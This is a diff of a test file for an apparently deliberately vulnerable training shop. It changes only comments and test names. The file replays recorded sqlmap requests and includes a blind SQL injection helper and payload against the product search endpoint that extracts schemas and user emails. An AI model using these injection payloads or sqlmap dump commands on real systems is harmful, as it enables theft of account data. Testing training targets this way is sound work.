@@ -3,9 +3,9 @@ import { type Learner, openTestApp, type TestApp } from '../../testing/test-app.
 import recorded from './sqlmap-requests.json' with { type: 'json' }
 
 /**
- * What sqlmap 1.7.2 (Debian's) sent to `npm start` on 2026-11-23, with the status of each answer.
+ * Requests that sqlmap 1.7.2 (Debian) sent to `npm start` on 2026-11-23, with the status of each response.
  *
- * `boolean`: `-u <shop>/rest/products/search?q=apple --batch --level 2 -T Users --dump`, until it knows hole and database.
+ * `boolean`: `-u <shop>/rest/products/search?q=apple --batch --level 2 -T Users --dump`, until it knows vulnerability and database.
  * `union`: the same with `--technique=U --union-cols=9 --prefix="'))" --suffix="-- " --dbms=sqlite --schema`, to its end.
  */
 const { boolean, union } = recorded as unknown as Record<'boolean' | 'union', readonly (readonly [number, string])[]>
@@ -18,7 +18,7 @@ afterAll(() => testApp.close())
 
 const search = (learner: Learner, query: string) => learner.client().get(`/rest/products/search?${query}`)
 
-/** Reads a value as sqlmap does: one character at a time, each by halving what it may be. */
+/** Reads a value as sqlmap does: character by character, each by binary search. */
 async function readBlindly(learner: Learner, statement: string): Promise<string> {
   const isTrue = async (condition: string) => {
     const answer = await search(learner, `q=${encodeURIComponent(`apple%' AND ${condition} AND 'GALs%'='GALs`)}`)
@@ -41,14 +41,14 @@ async function readBlindly(learner: Learner, statement: string): Promise<string>
 const select = (column: string, from: string) => `SELECT COALESCE(CAST(${column} AS TEXT),CHAR(32)) FROM ${from}`
 
 describe('sqlmap', () => {
-  it('finds the hole and the kind of database', async () => {
+  it('finds the vulnerability and the database type', async () => {
     const learner = testApp.learner()
     const statuses = []
     for (const [, query] of boolean) statuses.push((await search(learner, query)).status)
     expect(statuses).toEqual(boolean.map(([status]) => status))
   })
 
-  it('reads tables and accounts by yes and no, each row in one piece', async () => {
+  it('reads tables and accounts by boolean-based blind injection', async () => {
     const learner = testApp.learner()
     const master = 'sqlite_master WHERE type=CHAR(116,97,98,108,101)'
     const names = learner.inside(({ db }) =>
@@ -59,7 +59,7 @@ describe('sqlmap', () => {
     expect(await readBlindly(learner, select('sql', `${master} AND ${spentCodes} LIMIT 1`))).toMatch(
       /^CREATE TABLE SpentCodes \(.*\)$/s,
     )
-    // Each column is asked for by itself, in whatever order the database then has the rows.
+    // Each column is requested separately, in the database's own row order.
     for (const row of [2, 7]) {
       const [id, email] = [
         await readBlindly(learner, select('id', `Users LIMIT ${row},1`)),
@@ -68,11 +68,11 @@ describe('sqlmap', () => {
       const sql = 'SELECT email FROM Users WHERE id = ?'
       expect(learner.inside(({ db }) => db.all({ sql, parameters: [id] }))).toEqual([{ email }])
     }
-    // Neither table nor account was in any answer.
+    // No response contained a table or an account.
     expect(await learner.solved()).toEqual([])
   })
 
-  it('dumps the accounts and the schema through UNION, and solves what that solves', async () => {
+  it('dumps accounts and schema by UNION and solves both challenges', async () => {
     const learner = testApp.learner()
     const statuses = []
     for (const [, query] of union) statuses.push((await search(learner, query)).status)
@@ -80,7 +80,7 @@ describe('sqlmap', () => {
     expect(await learner.solved()).toEqual(expect.arrayContaining(['dbSchemaChallenge', 'unionSqlInjectionChallenge']))
   })
 
-  it('solves again what somebody has read before they set their progress back', async () => {
+  it('solves the challenges again after a reset of the progress', async () => {
     const learner = testApp.learner()
     const solvedAgain = async () => {
       for (const [, query] of union.slice(-24)) await search(learner, query)
